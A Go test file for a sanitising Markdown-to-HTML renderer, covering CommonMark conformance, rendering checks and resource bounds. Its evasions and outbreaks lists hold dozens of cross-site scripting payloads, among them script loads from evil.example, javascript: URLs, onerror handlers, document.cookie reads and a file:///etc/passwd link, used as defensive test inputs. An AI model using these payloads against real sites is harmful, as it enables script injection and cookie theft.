package markdown

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"golang.org/x/net/html"
)

// TestCommonMark renders every example of the specification, which goldmark comes with. Raw HTML is text or code,
// headings are two levels lower, images are links, relative links are text.
func TestCommonMark(t *testing.T) {
	t.Parallel()
	dir, err := exec.CommandContext(t.Context(), "go", "list", "-m", "-f", "{{.Dir}}", "github.com/yuin/goldmark").Output()
	if err != nil {
		t.Fatal(err)
	}
	file, err := os.ReadFile(filepath.Join(strings.TrimSpace(string(dir)), "_test", "spec.json"))
	if err != nil {
		t.Fatal(err)
	}
	var examples []struct {
		Example              int
		Markdown, HTML, Text string
	}
	if err := json.Unmarshal(file, &examples); err != nil || len(examples) < 600 {
		t.Fatalf("got %d examples, %v, want all", len(examples), err)
	}
	compared := 0
	for _, e := range examples {
		got, ok := HTML(e.Markdown, NewIDs(IDPrefix))
		if !ok {
			t.Errorf("example %d: got nothing, want it rendered: %q", e.Example, e.Markdown)
		}
		wantHarmless(t, e.Markdown, got)
		var b bytes.Buffer
		if err := goldmark.Convert([]byte(e.Markdown), &b); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(b.String(), "<!-- raw HTML omitted -->") || slices.Contains(exceptions, e.Example) {
			continue
		}
		compared++
		got = ids.ReplaceAllString(anchors.ReplaceAllString(got, ""), "")
		if want := normal(t, policy.Sanitize(adjust(e.HTML))); normal(t, got) != want {
			t.Errorf("example %d: %q: got %q, want %q", e.Example, e.Markdown, normal(t, got), want)
		}
	}
	if compared < 500 {
		t.Errorf("got %d examples compared, want at least 500", compared)
	}
}

// exceptions are examples with another result here: addresses that become links, as in GitHub's Markdown, and links and
// pictures within each other.
var exceptions = []int{517, 520, 531, 532, 573, 576, 577, 581, 585, 589, 608, 611, 612}

var (
	headings = regexp.MustCompile(`<(/?)h([1-6])>`)
	image    = regexp.MustCompile(`<img src="([^"]*)" alt="([^"]*)"( title="[^"]*")? />`)
	links    = regexp.MustCompile(`(?s)<a href="([^"]*)"( title="[^"]*")?>(.*?)</a>`)
	ids      = regexp.MustCompile(` id="[^"]*"`)
	anchors  = regexp.MustCompile(` <a class="anchor".*?</a>`)
)

// adjust returns the HTML of an example with the changes that this package makes.
func adjust(text string) string {
	text = headings.ReplaceAllStringFunc(text, func(tag string) string {
		at := len(tag) - 2
		return tag[:at] + string(min(tag[at]+2, '6')) + ">"
	})
	text = image.ReplaceAllString(text, `<a href="$1"$3>$2</a>`)
	return links.ReplaceAllStringFunc(text, func(link string) string {
		parts := links.FindStringSubmatch(link)
		address := html.UnescapeString(parts[1])
		switch leads, to := (&rewriter{ids: NewIDs(IDPrefix)}).targetOf(address); leads {
		case beside:
			return parts[3] + " (" + parts[1] + ")"
		case here:
			return `<a href="` + html.EscapeString(to) + `"` + parts[2] + `>` + parts[3] + `</a>`
		case nowhere:
			return parts[3]
		}
		return link
	})
}

// normal returns HTML in a canonical form, without white space between blocks.
func normal(t *testing.T, text string) string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := html.Render(&b, root); err != nil {
		t.Fatal(err)
	}
	text = regexp.MustCompile(`\s+<br/>`).ReplaceAllString(strings.TrimSpace(b.String()), "<br/>")
	return regexp.MustCompile(`>\s+<`).ReplaceAllString(text, "><")
}

// wantHarmless fails the test if HTML has an element or an attribute that can load, run or deceive, or if it leaves the
// element that it is in.
func wantHarmless(t *testing.T, source, rendered string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(`<main><div id="text">` + rendered + `</div><p id="after">after</p></main>`))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		within := false
		for above := range n.Ancestors() {
			within = within || slices.Contains(above.Attr, html.Attribute{Key: "id", Val: "text"})
		}
		switch {
		case n.Type == html.CommentNode:
			t.Errorf("%q: got a comment in %q, want none", source, rendered)
		case n.Type == html.ElementNode && !within:
			if !slices.Contains(strings.Fields("html head body main div p"),
				n.Data) || n.Data == "p" && n.Parent.Data != "main" {
				t.Errorf("%q: got <%s> outside of its element, want none: %q", source, n.Data, rendered)
			}
		case n.Type == html.ElementNode && (!allowedElements[n.Data] && n.Data != "span" || n.Data == "h1" || n.Data == "h2"):
			t.Errorf("%q: got <%s> in %q, want none", source, n.Data, rendered)
		case n.Type == html.TextNode && !within && strings.TrimSpace(n.Data) != "after":
			t.Errorf("%q: got %q outside of its element, want none: %q", source, n.Data, rendered)
		}
		if !within {
			continue
		}
		for _, a := range n.Attr {
			if harmless := attributes[a.Key]; harmless == nil || !harmless.MatchString(a.Val) {
				t.Errorf("%q: got %s=%q in %q, want none", source, a.Key, a.Val, rendered)
			}
		}
	}
}

// attributes are the harmless ones, with their harmless values.
var attributes = map[string]*regexp.Regexp{
	"href": regexp.MustCompile(`^(https?:|mailto:|#user-content-)`), "id": regexp.MustCompile(`^user-content-`),
	"align": regexp.MustCompile(`^(?i:left|right|center|justify|char)$`), "start": regexp.MustCompile(`^\d+$`),
	"title": regexp.MustCompile(``), "rel": regexp.MustCompile(`^nofollow$`), "open": regexp.MustCompile(`^$`),
	"class":   regexp.MustCompile(`^(anchor|language-\S*|alert-[a-z]+)$`),
	"colspan": regexp.MustCompile(`^\d{1,2}$`), "rowspan": regexp.MustCompile(`^\d{1,2}$`),
	"aria-label": regexp.MustCompile(`^Link to this heading$`),
}

// evasions are attacks of each kind that OWASP's sheet about the evasion of filters lists, and some that Markdown has
// of its own.
var evasions = []string{
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1);//'>",
	`<a onmouseover="alert(document.cookie)">x</a>`, `<a onmouseover=alert(document.cookie)>x</a>`,
	`<IMG """><SCRIPT>alert("x")</SCRIPT>"\>`, `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('x')">`, `<IMG SRC= onmouseover="alert('x')">`, `<IMG onmouseover="alert('x')">`,
	`<IMG SRC=/ onerror="alert(1)"></img>`, `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>`,
	"<a href=\"jav\tascript:alert(1)\">x</a>", `<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="jav&#x0D;ascript:alert(1)">x</a>`, "<IMG SRC=java\x00script:alert(1)>",
	`<a href=" &#14;  javascript:alert(1)">x</a>`,
	`<SCRIPT/XSS SRC="http://evil.example/x.js"></SCRIPT>`, "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
	`<SCRIPT/SRC="http://evil.example/x.js"></SCRIPT>`, `<<SCRIPT>alert("x");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://evil.example/x.js?< B >`,
	`<SCRIPT SRC=//evil.example/.j>`, "<IMG SRC=\"`<javascript:alert>`('x')\"", `<iframe src=http://evil.example/x.html <`,
	`\";alert(1);//`, `</script><script>alert(1);</script>`, `</TITLE><SCRIPT>alert(1);</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">`, `<BODY BACKGROUND="javascript:alert(1)">`,
	`<IMG DYNSRC="javascript:alert(1)">`,
	`<IMG LOWSRC="javascript:alert(1)">`,
	`<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>`,
	`<IMG SRC='vbscript:msgbox(1)'>`, `<IMG SRC="livescript:[code]">`, `<svg/onload=alert(1)>`,
	"Set.constructor`alert\\x281\\x29```",
	`<BODY ONLOAD=alert(1)>`, `<BGSOUND SRC="javascript:alert(1);">`, `<BR SIZE="&{alert(1)}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert(1);">`, `<LINK REL="stylesheet" HREF="http://evil.example/x.css">`,
	`<STYLE>@import'http://evil.example/x.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<http://evil.example/x.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("http://evil.example/x.xml#x")}</STYLE>`,
	`<STYLE>@im\port'\ja\vasc\ript:alert(1)';</STYLE>`,
	`<IMG STYLE="x:expr/*x*/ession(alert(1))">`,
	`exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*x*//*/*/pression(alert(1))'>`,
	`<STYLE TYPE="text/javascript">alert(1);</STYLE>`,
	`<STYLE>.x{background-image:url("javascript:alert(1)");}</STYLE><A CLASS=x></A>`,
	`<XSS STYLE="xss:expression(alert(1))">`, `<XSS STYLE="behavior: url(xss.htc);">`, "¼script¾alert(¢x¢)¼/script¾",
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">`,
	`<IFRAME SRC="javascript:alert(1);"></IFRAME>`, `<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>`, `<TABLE BACKGROUND="javascript:alert(1)">`,
	`<TABLE><TD BACKGROUND="javascript:alert(1)">`, `<DIV STYLE="background-image: url(javascript:alert(1))">`,
	`<DIV STYLE="width: expression(alert(1));">`, "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
	`<BASE HREF="javascript:alert(1);//">`, `<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/x.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></xml>`,
	`<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">` +
		`<t:set attributeName="innerHTML" to="x"></BODY></HTML>`,
	`<SCRIPT SRC="http://evil.example/x.jpg"></SCRIPT>`, `<!--#exec cmd="/bin/echo '<SCR'"-->`,
	`<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>`,
	`<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">`,
	`<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>` +
		`+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-`,
	`<SCRIPT a=">" SRC="http://evil.example/x.js"></SCRIPT>`, "<SCRIPT a=`>` SRC=\"http://evil.example/x.js\"></SCRIPT>",
	`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://evil.example/x.js"></SCRIPT>`,
	`<A HREF="//www.evil.example/">x</A>`,
	`<A HREF="javascript:document.location='http://evil.example/'">x</A>`, `<details open ontoggle=alert(1)>`,
	`<math><mi//xlink:href="data:x">`,
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](\tjavascript:alert(1))", "[x](javascript&#58;alert(1))",
	"[x](&#x6a;avascript:alert(1))",
	"[x](java\\\nscript:alert(1))", "[x](vbscript:x)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](//evil.example)",
	"[x](/sign-out)",
	"[x](#L1)",
	"[x](file:///etc/passwd)", "<javascript:alert(1)>", "<data:text/html,x>", "![x](javascript:alert(1))",
	"![x](https://evil.example/x.png)",
	"![x](data:image/svg+xml,x)", `![x](https://evil.example/x.png"onerror="alert(1))`,
	"[![x](https://evil.example/x.png)](https://evil.example)",
	"[x]: javascript:alert(1)\n\n[x]", "[x]: https://evil.example/ \"\\\"><script>alert(1)</script>\"\n\n[x]",
	"```\n</code></pre><script>alert(1)</script>\n```",
	"``</code><script>alert(1)</script>``", "```\"><script>alert(1)</script>\nx\n```",
	"|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
	"# <svg onload=alert(1)>",
	"</div></section></main><h1>x</h1>", "<input type=checkbox onclick=alert(1)>", "- [x] <script>alert(1)</script>",
}

// outbreaks try to close what contains them, to stay open, or to take the ids of the page.
var outbreaks = []string{
	"</div>", "</main>", "</p></div></div>", "<div>", "<div></p></div></div>", "<details>", "<details><summary>",
	"<details open>\n\na",
	"<table>", "<table><tr><td>", "<table></div>", "<td>x</td>", "<tr><td>x", "</td></tr></table></div>", "<caption>x",
	"<li>", "</ul></div>",
	"<a href=https://evil.example>", "<a href=https://evil.example><a href=https://evil.example>",
	"<table><a href=https://evil.example>",
	"<table><a href=https://evil.example><tr>", "<b><table><td></b><b>", "<b><p><i></b></p>", "<b><i><u><s><b><i><u>",
	"<h1><h2>x</h1>",
	"<h3><div></h3></div>", "</h1>", "<p><h1><p></h1>", "<pre>", "<code>", "<blockquote>", "<ruby><rt><rp>",
	"<dl><dt><dd><dt>",
	"<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<math><mtext><table><mglyph><style><!--</style><img src=1 onerror=alert(1)>",
	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<template><div></template></div>",
	"<select><div></select></div>",
	"<plaintext>", "<textarea>", "<title>", "<xmp>", "<iframe>", "<noembed>", "<style>", "<script>", "<!--", "<![CDATA[",
	"<!DOCTYPE html>", "<?php",
	"<body onload=alert(1)>", "</body></html>", "<frameset>", "<base target=x>", "<a id=L1>", "<p id=text>",
	"<h2 id=\"L1\">x</h2>", "<a name=text>x</a>",
	"# L1", "<a href=\"#L1\">x</a>", "<div align=\"center\"><p align=left>x", "<img src=\"https://x\" alt=\"<b>\">",
	"<img alt='\"><script>alert(1)</script>'>",
	"<b <script>alert(1)</script>>", "<p/x<img src=1 onerror=alert(1)>", "<<b>>", "<b/>x",
	"<a href=\"https://x\" title='\"><img src=1 onerror=alert(1)>'>y</a>",
	"[x](https://x '\"><img src=1 onerror=alert(1)>')", "```\"><img src=1 onerror=alert(1)>\nx\n```",
	"<details ontoggle=alert(1) open>x</details>",
	"---\n<script>: <script>\n---\n", "---\na: <img src=1 onerror=alert(1)>\n---\n", "[^<b>]\n\n[^<b>]: <div>",
	"> [!NOTE]</div>\n> x", "> [!NOTE]\n> </div>",
}

func TestEvasions(t *testing.T) {
	t.Parallel()
	for _, attack := range slices.Concat(evasions, outbreaks) {
		for _, source := range []string{
			attack, "x " + attack, "# " + attack, "> " + attack, "- " + attack, "|a|\n|-|\n|" + attack + "|", "<details>\n\n" +
				attack,
			"<p>" + attack, "<table><tr><td>" + attack, "[" + attack + "](https://x)", "a[^1]\n\n[^1]: " + attack,
		} {
			got, ok := HTML(source, NewIDs(IDPrefix))
			if !ok {
				t.Errorf("%q: got nothing, want it rendered", source)
			}
			wantHarmless(t, source, got)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, attack := range slices.Concat(evasions, outbreaks) {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, source string) {
		if got, ok := HTML(source[:min(len(source), 4<<10)], NewIDs(IDPrefix)); ok {
			wantHarmless(t, source, got)
		}
	})
}

func TestRendered(t *testing.T) {
	t.Parallel()
	anchor := func(id string) string {
		return ` <a class="anchor" href="#user-content-` + id + `" aria-label="Link to this heading">#</a>`
	}
	for source, want := range map[string]string{
		"# A *b*":                     `<h3 id="user-content-a-b">A <em>b</em>` + anchor("a-b") + "</h3>\n",
		"- [ ] a\n- [x] b":            "<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>\n",
		"![a *b*](https://x.y/z)":     `<p><a href="https://x.y/z" rel="nofollow">a b</a></p>` + "\n",
		"![](https://x.y/z)":          `<p><a href="https://x.y/z" rel="nofollow">https://x.y/z</a></p>` + "\n",
		"[![a](https://x)](http://y)": `<p><a href="http://y" rel="nofollow">a</a></p>` + "\n",
		"<img src=\"https://x/y.png\" alt=\"a\" width=9>": `<a href="https://x/y.png" rel="nofollow">a</a>`,
		"~~a~~ www.x.org": `<p><del>a</del> <a href="http://www.x.org" rel="nofollow">www.x.org</a></p>` +
			"\n",
		"[a](b.md) <b>c</b>":             "<p>a (b.md) <b>c</b></p>\n",
		"![a](b.png) <a href='/c'>d</a>": "<p>a (b.png) d (/c)</p>\n",
		"[a](#Some-%C3%9C)":              `<p><a href="#user-content-some-%C3%BC">a</a></p>` + "\n",
		"# Ü\n# Ü": `<h3 id="user-content-ü">Ü` + anchor("%C3%BC") + "</h3>\n" +
			`<h3 id="user-content-ü-1">Ü` + anchor("%C3%BC-1") + "</h3>\n",
		"# …":                            "<h3>…</h3>\n",
		"<h1 id=Top>A</h1>":              `<h3 id="user-content-top">A` + anchor("top") + "</h3>",
		"<a name=top></a>b":              `<p><span id="user-content-top"></span>b</p>` + "\n",
		"Vec<T> <a-b c=\"&amp;\n*c*\">":  "<p>Vec&lt;T&gt; &lt;a-b c=&#34;&amp;amp;\n*c*&#34;&gt;</p>\n",
		"a<!-- b -->c":                   "<p>ac</p>\n",
		"<div>\n a *b*\n</div>\n\nc":     "<div>\n a *b*\n</div>\n<p>c</p>\n",
		"> <script>\n> a\n> </script>\n": "<blockquote>\n&lt;script&gt;\na\n&lt;/script&gt;\n</blockquote>\n",
		"- <b>\n- c":                     "<ul>\n<li>\n<b>\n</b></li>\n<li>c</li>\n</ul>\n",
		"<!-- a -->\n\nb":                "\n<p>b</p>\n",
		"|a|b|\n|-:|-|\n|1|": "<table>\n<thead>\n<tr>\n<th align=\"right\">a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n" +
			"<tr>\n<td align=\"right\">1</td>\n<td></td>\n</tr>\n</tbody>\n</table>\n",
		"\x00":             "<p>\ufffd</p>\n",
		"```go\nx\n```":    "<pre><code class=\"language-go\">x\n</code></pre>\n",
		"> [!NOTE]\n> a":   "<blockquote class=\"alert-note\"><p><strong>Note</strong></p>\n<p>a</p>\n</blockquote>\n",
		"> [!tip]\n>\n> a": "<blockquote class=\"alert-tip\"><p><strong>Tip</strong></p>\n<p>a</p>\n</blockquote>\n",
		"> [!NOTE] a":      "<blockquote>\n<p>[!NOTE] a</p>\n</blockquote>\n",
		"a[^1]\n\n[^1]: b": `<p>a<sup id="user-content-fnref:1"><a href="#user-content-fn:1">1</a></sup></p>` +
			"\n<div>\n<hr>\n<ol>\n" +
			`<li id="user-content-fn:1">` + "\n<p>b\u00a0" + `<a href="#user-content-fnref:1">↩︎</a></p>` +
			"\n</li>\n</ol>\n</div>\n",
		"---\ntitle: A & b\ntags:\n  - c\n  - d\n---\ne": "<table><tbody><tr><th>title</th><td>A &amp; b</td></tr>" +
			"<tr><th>tags</th><td>- c - d</td></tr></tbody></table>\n<p>e</p>\n",
		"---\nnot a setting\n---\n": "<hr>\n<h4 id=\"user-content-not-a-setting\">not a setting" + anchor("not-a-setting") +
			"</h4>\n",
		"<p align=\"center\"><b>a</b></p>\n\nPress <kbd>C</kbd>, H<sub>2</sub>O<br>b": "<p align=\"center\"><b>a</b></p>\n" +
			"<p>Press <kbd>C</kbd>, H<sub>2</sub>O<br>b</p>\n",
		"<details>\n<summary>a</summary>\n\n*b*\n\n</details>": "<details>\n<summary>a</summary>\n" +
			"<p><em>b</em></p>\n</details>",
	} {
		t.Run(source, func(t *testing.T) {
			t.Parallel()
			if got, ok := HTML(source, NewIDs(IDPrefix)); !ok || got != want {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}

// TestBounded renders texts of 64 KiB that would take goldmark minutes or gigabytes. They are rendered quickly, or not
// at all.
func TestBounded(t *testing.T) {
	t.Parallel()
	const length = 64 << 10
	wide := length / 8
	texts := map[string]string{
		"a wide table": "|" + strings.Repeat("a|", wide) + "\n|" + strings.Repeat("-|",
			wide) + "\n" + strings.Repeat("|\n", wide),
	}
	for _, part := range []string{
		"> ", "[", "![", "*", "*a_ ", "`", "`a``b", "<", "<a ", "[a](", "[a](<b", "- ", "-\n", "* a\n", "+ ", "|",
		"<!--", "a@b",
		"http://a ", "&",
		"# a\n", "#", "[^1]", "[^1]: a\n", "[^1] [^1]: a\n", "<b>", "<b a>", "</b>", "<details>", "<h1>",
		"<a href=https://b>", "<p>",
		"<img src=b>", "<td>", "&lt;", "> [!NOTE]\n", "> [!NOTE]\n\n", "---\n", "a: b\n", "\n- a", "<x>", "<script>",
		"<br>", "a\n\n",
		"[a]: b\n", "[a][b]", "1. ", "1) ", "~~a ", "<?", "]", "[[]()", "__", "|-|\n", "| a |\n|-|\n", "a\n=\n",
		"a_b@", "https://x(",
	} {
		long := strings.Repeat(part, length/len(part))
		texts[part] = long
		texts[part+" in blocks"] = strings.Join(slices.Collect(func(yield func(string) bool) {
			for block := range slices.Chunk([]byte(long), maxMarks) {
				if !yield(string(block)) {
					return
				}
			}
		}), "\n\n")
	}
	for name, source := range texts {
		start := time.Now()
		got, ok := HTML(source, NewIDs(IDPrefix))
		if took := time.Since(start); took > time.Minute || len(got) > 40*len(source) {
			t.Errorf("%q: got %d bytes (%t) after %v, want at most a second of work", name, len(got), ok, took)
		}
	}
	for _, source := range []string{strings.Repeat("> ", 200) + "a", strings.Repeat("*a_ ", 3000), texts["a wide table"]} {
		if _, ok := HTML(source, NewIDs(IDPrefix)); ok {
			t.Errorf("%.40q: got it rendered, want it refused", source)
		}
	}
}
